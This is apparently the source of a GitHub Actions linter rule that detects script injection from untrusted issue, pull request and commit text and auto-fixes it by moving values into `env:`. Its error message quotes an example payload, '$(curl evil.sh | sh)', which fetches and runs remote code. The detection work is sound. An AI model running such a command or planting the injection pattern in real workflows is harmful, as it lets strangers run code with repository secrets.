import { type ExpressionSpan, findExpressions, parseCondition, parseExpression, renderedPaths, type RenderedPath, usesStatusFunction } from '../../engine/languages/expressions';
import type { Severity, TextEdit } from '../../engine/core/finding';
import { onlyBotsPass } from '../../engine/model/actors';
import { byJobId, crossJobVerdicts } from '../../engine/model/crossJob';
import { graphOf } from '../../engine/model/jobGraph';
import { stepCondition } from '../../engine/model/jobKind';
import { mayRunPrivileged, workflowTriggers } from '../../engine/model/triggers';
import type { Step } from '../../engine/model/workflow';
import { defineRule } from '../../engine/core/rule';
import { scalarText, type ScalarText } from '../../engine/yaml/scalarText';
import { insertMapEntry } from '../../engine/edits/yamlEdit';
import { type Field, isMap, isScalar, mapFields, type Scalar, spanOf, type YamlDoc, type YamlFile } from '../../engine/yaml/yamlFile';

/**
 * Context paths (lower case, `*` for any index or key) whose text the author of an issue, comment, pull request,
 * commit, branch or wiki page chooses. Names, logins, SHAs, numbers and flags are not free text and do not count.
 */
const UNTRUSTED_TEXT: readonly string[][] = [
  ...['issue', 'pull_request', 'discussion'].flatMap((object) => [`github.event.${object}.title`, `github.event.${object}.body`]),
  ...['comment', 'review', 'review_comment'].map((object) => `github.event.${object}.body`),
  'github.event.pages.*.page_name',
  ...['github.event.commits.*', 'github.event.head_commit', 'github.event.workflow_run.head_commit'].flatMap((commit) => [
    `${commit}.message`,
    ...['author', 'committer'].flatMap((who) => [`${commit}.${who}.email`, `${commit}.${who}.name`]),
  ]),
  ...['ref', 'label', 'repo.default_branch'].map((field) => `github.event.pull_request.head.${field}`),
  'github.event.workflow_run.head_branch',
  'github.event.workflow_run.display_title',
  'github.event.workflow_run.pull_requests.*.head.ref',
  'github.head_ref',
].map((path) => path.split('.'));

/** Whether `path` (segments) can stand for the start of `template` (`*` matches any one segment either way). */
function matchesStart(path: readonly string[], template: readonly string[]): boolean {
  return path.length <= template.length && path.every((segment, i) => segment === '*' || template[i] === '*' || template[i] === segment);
}

/**
 * Whether what the expression pastes in can hold attacker-chosen text: an untrusted text field itself, or an object
 * holding one passed through `toJSON()`, `join()` …, or picked from one by a computed index. An object pasted as it is
 * renders as the word `Object` (an array as `Array`), and booleans and numbers (`…draft`, `…number`, comparisons,
 * `startsWith()`) are never code.
 */
function untrustedIn(rendered: RenderedPath): boolean {
  const path = rendered.path.split('.');
  switch (rendered.via) {
    case 'value':
      return !path.includes('*') && UNTRUSTED_TEXT.some((template) => path.length === template.length && matchesStart(path, template));
    case 'member': {
      // A path through a filter (`github.event.commits.*.message`) is already the list of what it matched: an index picks one.
      const memberLength = path.includes('*') ? path.length : path.length + 1;
      return UNTRUSTED_TEXT.some((template) => template.length === memberLength && matchesStart(path, template));
    }
    case 'content':
      return UNTRUSTED_TEXT.some((template) => matchesStart(path, template));
  }
}

export default defineRule({
  id: 'gha/script-injection',
  presets: { recommended: 'error', strict: 'error' },
  dora: ['change-failure-rate'],
  fixable: 'suggestion',
  messages: {
    run: (expression: string, path: string) =>
      `'${expression}' is pasted into the script before it runs, and '${path}' holds text that whoever opens an issue, pull request or branch chooses: a value like '$(curl evil.sh | sh)' runs as a command. Pass it through 'env:' and use the variable.`,
    githubScript: (expression: string, path: string) =>
      `'${expression}' is pasted into the JavaScript before it runs, and '${path}' holds attacker-chosen text: a quote in it ends the string and the rest runs as code. Pass it through 'env:' and read 'process.env'.`,
  },
  docs: {
    summary: 'Never interpolate untrusted event text (`${{ github.event.issue.title }}` …) into a script.',
    rationale:
      '`${{ }}` expressions are expanded into the text of a `run:` script (or a github-script `script:`) before the shell or Node sees it, so the value becomes code, not data. Titles, bodies and comments of issues and pull requests, branch names, commit messages and author names are all chosen by whoever opens them, including people with no access to the repository. One crafted title can then run commands with the workflow\'s token and secrets. An environment variable is passed as data and is never parsed as code. Contexts that are not free text (`github.sha`, `github.run_id`, `github.ref`, numbers, flags such as `…draft`, logins) are not flagged, nor are expressions whose result is a boolean (comparisons, `!`, `contains()`, `startsWith()`, `endsWith()`), nor a whole object pasted as it is (`${{ github.event }}` renders as the word `Object`; `toJSON(github.event)` does paste its text and is flagged), nor expressions in `env:` or `with:`. It is an error when the workflow may run on an event that hands a stranger\'s text to a job with secrets and a writable token (`pull_request_target`, `issues`, `issue_comment`, `discussion`, `discussion_comment`, `workflow_run`, `gollum`, or an event it cannot know: a reusable workflow, a composite action); a warning when it runs only on other events (on `pull_request` a fork\'s text runs with a read-only token and no secrets; on `push` the text comes from people who can push); info when the step or its job runs only for a bot author (`if: github.actor == \'dependabot[bot]\'`, also through `needs:`).',
    symptom:
      'An issue or pull request with an odd title (backticks, `$( )`, quotes) makes a triage or labelling workflow fail, or silently run extra commands; secrets or the GITHUB_TOKEN are exfiltrated.',
    fix: 'Move each such expression into the step\'s `env:` and use the variable, quoted, in the script (`"$PR_TITLE"`; `process.env.PR_TITLE` in github-script). The quick-fix does this, choosing names that do not clash with existing variables; it is offered for POSIX shells (`"$PR_TITLE"`), PowerShell (`$env:PR_TITLE`) and github-script, in whichever shell the step runs (its `shell:`, the job\'s or workflow\'s `defaults: run: shell:`, or the runner\'s default). cmd steps get no fix: cmd expands `%PR_TITLE%` before it parses the line, so the value would still be read as code; nor do Python steps.',
    bad: `on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue - \${{ github.event.issue.title }}"
`,
    good: `on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue - $TITLE (#\${{ github.event.issue.number }})"
        env:
          TITLE: \${{ github.event.issue.title }}
`,
  },
  scope: 'job',
  visit: {
    step(step, ctx) {
      const script = scriptOf(step, ctx.file);
      if (!script) return;
      const found = untrustedExpressions(script.value);
      if (found.length === 0) return;
      const edits = script.text && script.lang !== 'other' && script.lang !== 'cmd' ? fixEdits(ctx.file, ctx.doc, step, script, found) : undefined;
      const severity = severityFor(step, ctx.doc, step.job.workflow.kind === 'workflow' ? ctx.acrossJobs(BOT_GATED) : byJobId<true>());
      for (const { expression, path } of found) {
        const span = script.text?.sourceSpan(expression.start, expression.end) ?? script.span;
        ctx.report({
          span,
          message: script.kind,
          args: [script.value.slice(expression.start, expression.end), path],
          ...(severity ? { severity } : {}),
          // One fix moves every expression of the step at once, whichever finding it is invoked from.
          ...(edits ? { fix: { title: "Pass untrusted values through 'env:'", edits } } : {}),
        });
      }
    },
  },
});

/**
 * How bad an injection is where the step runs: info when only bots' text reaches it (the step or its job, or a job
 * it needs, runs only for a bot author); the rule's error when the workflow may run on an event that gives a
 * stranger's text secrets and a writable token (or on an event it cannot know); a warning otherwise.
 */
function severityFor(step: Step, yaml: YamlDoc, botGated: Readonly<Record<string, true>>): Severity | undefined {
  if (onlyBotsPass(stepCondition(step)) || (!step.job.synthetic && botGated[step.job.id])) return 'info';
  if (step.job.workflow.kind !== 'workflow' || mayRunPrivileged(workflowTriggers(step.job.workflow, yaml))) return undefined;
  return 'warning';
}

/**
 * The jobs that run only for bot authors: their `if:` lets only bots through, or they need such a job and their
 * `if:` calls no status function (so they are skipped with it).
 */
const BOT_GATED = crossJobVerdicts<true>('script-injection-bot-gated', ({ jobs }) => {
  const graph = graphOf(jobs);
  const gated = byJobId<true>();
  const visiting = new Set<string>();
  const isGated = (id: string): boolean => {
    const job = graph.job(id);
    if (!job || visiting.has(id)) return false;
    if (gated[id]) return true;
    visiting.add(id);
    const parsed = job.ifText === undefined ? undefined : parseCondition(job.ifText);
    const skippedWithNeeds = !(parsed?.ok && usesStatusFunction(parsed.ast)) && !(job.hasIf && !parsed?.ok);
    const result = onlyBotsPass(job.ifText) || (skippedWithNeeds && graph.needs(job).some((need) => isGated(need.id)));
    visiting.delete(id);
    if (result) gated[id] = true;
    return result;
  };
  for (const job of jobs) isGated(job.id);
  return gated;
});

interface Script {
  kind: 'run' | 'githubScript';
  /**
   * What reads the script: a POSIX shell, PowerShell, cmd, JavaScript, or something else. cmd gets no fix: it expands
   * `%VAR%` before it parses the line, so an environment variable's value is still read as code there.
   */
  lang: 'shell' | 'pwsh' | 'cmd' | 'js' | 'other';
  value: string;
  text: ScalarText | undefined;
  span: { start: number; end: number };
  /** The YAML style of the scalar holding the script: replacements are escaped for it. */
  style: Scalar['type'];
}

function scriptOf(step: Step, file: YamlFile): Script | undefined {
  if (step.run) {
    const kind = step.shell.kind;
    const lang = kind === 'posix' ? 'shell' : kind;
    return { kind: 'run', lang, value: step.run.value, text: step.run.text, span: step.run.span, style: step.run.node.type };
  }
  if (step.action?.id === 'actions/github-script') {
    const node = step.inputs.get('script')?.value;
    if (!isScalar(node) || typeof node.value !== 'string') return undefined;
    return { kind: 'githubScript', lang: 'js', value: node.value, text: scalarText(file.text, node), span: spanOf(node), style: node.type };
  }
  return undefined;
}

interface Found {
  expression: ExpressionSpan;
  path: string;
}

function untrustedExpressions(script: string): Found[] {
  const found: Found[] = [];
  for (const expression of findExpressions(script)) {
    const parsed = parseExpression(expression.inner);
    if (!parsed.ok) continue;
    const untrusted = renderedPaths(parsed.ast).find(untrustedIn);
    if (untrusted) found.push({ expression, path: untrusted.path });
  }
  return found;
}

/** `github.event.pull_request.head.ref` → `PR_HEAD_REF`, `github.event.issue.title` → `ISSUE_TITLE`. */
function envName(path: string): string {
  const segments = path
    .split('.')
    .filter((segment) => segment !== 'github' && segment !== 'event' && segment !== '*' && !/^\d+$/.test(segment))
    .map((segment) => (segment === 'pull_request' ? 'pr' : segment));
  const name = segments.slice(-3).join('_').toUpperCase().replace(/[^A-Z0-9_]/g, '_');
  return name === '' ? 'GITHUB_EVENT' : name;
}

function envEntries(yaml: YamlDoc, fields: ReadonlyMap<string, Field>): string[] {
  const env = fields.get('env')?.value;
  return isMap(env) ? [...mapFields(yaml, env).keys()] : [];
}

function fixEdits(file: YamlFile, yaml: YamlDoc, step: Step, script: Script, found: Found[]): TextEdit[] | undefined {
  const envNode = step.fields.get('env')?.value;
  if (step.fields.has('env') && !isMap(envNode)) return undefined;
  const taken = new Set([
    ...envEntries(yaml, step.fields),
    ...envEntries(yaml, step.job.fields),
    ...envEntries(yaml, step.job.workflow.fields),
    ...[...script.value.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)].map((match) => match[1]!),
    ...[...script.value.matchAll(/\$\{?env:([A-Za-z_][A-Za-z0-9_]*)/gi)].map((match) => match[1]!),
    ...[...script.value.matchAll(/process\.env\.([A-Za-z_][A-Za-z0-9_]*)/g)].map((match) => match[1]!),
  ]);
  const names = new Map<string, string>(); // expression source → variable
  const edits: TextEdit[] = [];
  const contexts = script.lang === 'shell' ? shellContexts(script.value) : script.lang === 'pwsh' ? pwshContexts(script.value) : jsContexts(script.value);
  for (const { expression, path } of found) {
    const source = expression.inner.trim();
    let name = names.get(source);
    if (!name) {
      const base = envName(path);
      name = base;
      for (let n = 2; taken.has(name); n++) name = `${base}_${n}`;
      taken.add(name);
      names.set(source, name);
    }
    const replacement = reference(name, script.value, expression, contexts, script.lang);
    const span = replacement && script.text!.sourceSpan(replacement.start, replacement.end);
    const newText = replacement && inYaml(script, replacement);
    if (!span || newText === undefined) return undefined;
    edits.push({ ...span, newText });
  }
  const lines = [...names].map(([source, name]) => `${name}: ${yamlValue(`\${{ ${source} }}`)}`);
  const envEdit = isMap(envNode) ? insertMapEntry(file, envNode, lines.join('\n')) : insertMapEntry(file, step.node, ['env:', ...lines.map((line) => `  ${line}`)].join('\n'));
  if (!envEdit) return undefined;
  return [...edits, envEdit];
}

/** The replacement as it must be written inside the YAML scalar; undefined when a plain scalar would change meaning. */
function inYaml(script: Script, replacement: { start: number; text: string }): string | undefined {
  switch (script.style) {
    case 'QUOTE_DOUBLE':
      return replacement.text.replace(/[\\"]/g, (ch) => `\\${ch}`);
    case 'QUOTE_SINGLE':
      return replacement.text.replace(/'/g, "''");
    case 'PLAIN':
      // A plain scalar may not start with a quote: it would turn into a quoted one.
      return replacement.start === 0 && /^['"]/.test(replacement.text) ? undefined : replacement.text;
    default:
      return replacement.text;
  }
}

/** A plain YAML scalar unless the text would be read as something else. */
function yamlValue(text: string): string {
  return /: |\s#|:$/.test(text) ? `'${text.replace(/'/g, "''")}'` : text;
}

type Quoting = 'none' | 'single' | 'double' | 'heredoc' | 'heredoc-literal' | 'template';

/**
 * What replaces the expression (script offsets and text). A string that holds nothing but the
 * expression is replaced whole: `'${{ x }}'` → `"$X"`, JavaScript `"${{ x }}"` → `process.env.X`.
 */
function reference(
  name: string,
  script: string,
  { start, end }: ExpressionSpan,
  contexts: (offset: number) => Quoting,
  lang: Script['lang'],
): { start: number; end: number; text: string } | undefined {
  const quoting = contexts(start);
  const quote = quoting === 'single' ? "'" : quoting === 'double' ? '"' : quoting === 'template' ? '`' : undefined;
  const opensHere = quote !== undefined && script[start - 1] === quote && contexts(start - 1) !== quoting;
  const closesHere = quote !== undefined && script[end] === quote;
  if (lang === 'js') {
    // toJSON() gave a JavaScript literal; the variable holds its JSON text.
    const variable = /^\s*tojson\(/i.test(script.slice(start + 3, end - 2)) ? `JSON.parse(process.env.${name})` : `process.env.${name}`;
    if (opensHere && closesHere) return { start: start - 1, end: end + 1, text: variable };
    if (quoting === 'template') return { start, end, text: `\${${variable}}` };
    if (quote) return { start, end, text: `${quote} + ${variable} + ${quote}` };
    return { start, end, text: variable };
  }
  if (lang === 'pwsh') {
    // PowerShell reads environment variables as `$env:NAME`, braced when a name character follows; it never splits them into words.
    const variable = /[A-Za-z0-9_:]/.test(script[end] ?? '') ? `\${env:${name}}` : `$env:${name}`;
    if (quoting === 'single') return opensHere && closesHere ? { start: start - 1, end: end + 1, text: variable } : undefined;
    return { start, end, text: variable };
  }
  const bare = /[A-Za-z0-9_]/.test(script[end] ?? '') ? `\${${name}}` : `$${name}`;
  switch (quoting) {
    case 'none':
      return { start, end, text: `"$${name}"` };
    case 'double':
    case 'heredoc':
      return { start, end, text: bare };
    case 'single': {
      // Close the single quotes around a double-quoted variable, dropping quotes that would be left empty.
      const from = opensHere ? start - 1 : start;
      const to = closesHere ? end + 1 : end;
      return { start: from, end: to, text: `${opensHere ? '' : "'"}"$${name}"${closesHere ? '' : "'"}` };
    }
    default:
      return undefined; // a quoted heredoc never expands variables
  }
}

/** For each offset of a shell script, how it is quoted there (single, double, heredoc body, none). */
function shellContexts(script: string): (offset: number) => Quoting {
  const states = new Array<Quoting>(script.length + 1).fill('none');
  let state: Quoting = 'none';
  const pending: { tag: string; literal: boolean; strip: boolean }[] = [];
  let i = 0;
  while (i < script.length) {
    const ch = script[i]!;
    states[i] = state;
    if (state === 'single') {
      if (ch === "'") state = 'none';
      i++;
      continue;
    }
    if (state === 'double') {
      if (ch === '\\') {
        states[i + 1] = state;
        i += 2;
        continue;
      }
      if (ch === '"') state = 'none';
      i++;
      continue;
    }
    if (ch === '\\') {
      states[i + 1] = state;
      i += 2;
      continue;
    }
    if (ch === "'") state = 'single';
    else if (ch === '"') state = 'double';
    else if (ch === '#' && (i === 0 || /\s/.test(script[i - 1]!))) {
      while (i < script.length && script[i] !== '\n') states[i++] = state;
      continue;
    } else if (ch === '<' && script[i + 1] === '<' && script[i + 2] !== '<') {
      const match = /^<<(-?)\s*(['"]?)([A-Za-z0-9_.-]+)\2/.exec(script.slice(i));
      if (match) {
        pending.push({ tag: match[3]!, literal: match[2] !== '', strip: match[1] === '-' });
        for (let k = 0; k < match[0].length; k++) states[i + k] = state;
        i += match[0].length;
        continue;
      }
    } else if (ch === '\n' && pending.length > 0) {
      i++;
      for (const heredoc of pending) {
        while (i < script.length) {
          const end = script.indexOf('\n', i);
          const stop = end < 0 ? script.length : end;
          const line = script.slice(i, stop);
          const done = (heredoc.strip ? line.replace(/^\t+/, '') : line).trim() === heredoc.tag;
          for (let k = i; k <= stop; k++) states[k] = done ? 'none' : heredoc.literal ? 'heredoc-literal' : 'heredoc';
          i = stop + 1;
          if (done) break;
        }
      }
      pending.length = 0;
      continue;
    }
    i++;
  }
  return (offset) => states[offset] ?? 'none';
}

/**
 * For each offset of a PowerShell script, how it is quoted there: single (`'…'`, `@'…'@`: literal), double (`"…"`,
 * `@"…"@`: expands `$env:X`), or none. A backtick escapes the next character outside single quotes.
 */
function pwshContexts(script: string): (offset: number) => Quoting {
  const states = new Array<Quoting>(script.length + 1).fill('none');
  let state: Quoting = 'none';
  let hereString = false;
  for (let i = 0; i < script.length; i++) {
    const ch = script[i]!;
    states[i] = state;
    if (state === 'none') {
      if (ch === '`') states[++i] = state;
      else if (ch === '#') while (i + 1 < script.length && script[i + 1] !== '\n') states[++i] = state;
      else if (ch === '@' && (script[i + 1] === '"' || script[i + 1] === "'") && /^[ \t]*(\r?\n|$)/.test(script.slice(i + 2, i + 40))) {
        state = script[i + 1] === '"' ? 'double' : 'single';
        hereString = true;
        states[++i] = 'none';
      } else if (ch === "'") state = 'single';
      else if (ch === '"') state = 'double';
      continue;
    }
    const quote = state === 'single' ? "'" : '"';
    if (hereString) {
      // A here-string ends at `'@` / `"@` at the start of a line.
      if (ch === quote && script[i + 1] === '@' && (i === 0 || script[i - 1] === '\n')) {
        states[++i] = state;
        state = 'none';
        hereString = false;
      }
    } else if (state === 'double' && ch === '`') states[++i] = state;
    else if (ch === quote && script[i + 1] === quote) states[++i] = state;
    else if (ch === quote) state = 'none';
  }
  return (offset) => states[offset] ?? 'none';
}

/** For each offset of a JavaScript snippet, whether it is inside a string or template literal. */
function jsContexts(script: string): (offset: number) => Quoting {
  const states = new Array<Quoting>(script.length + 1).fill('none');
  let quote: string | undefined;
  for (let i = 0; i < script.length; i++) {
    const ch = script[i]!;
    states[i] = quote === undefined ? 'none' : quote === "'" ? 'single' : quote === '"' ? 'double' : 'template';
    if (quote !== undefined) {
      if (ch === '\\') {
        states[++i] = states[i - 1]!;
        continue;
      }
      // `${{ }}` inside a template literal is GitHub's, not a JavaScript substitution.
      if (ch === quote) quote = undefined;
      continue;
    }
    if (ch === '/' && script[i + 1] === '/') {
      while (i < script.length && script[i] !== '\n') states[i++] = 'none';
      continue;
    }
    if (ch === "'" || ch === '"' || ch === '`') quote = ch;
  }
  return (offset) => states[offset] ?? 'none';
}
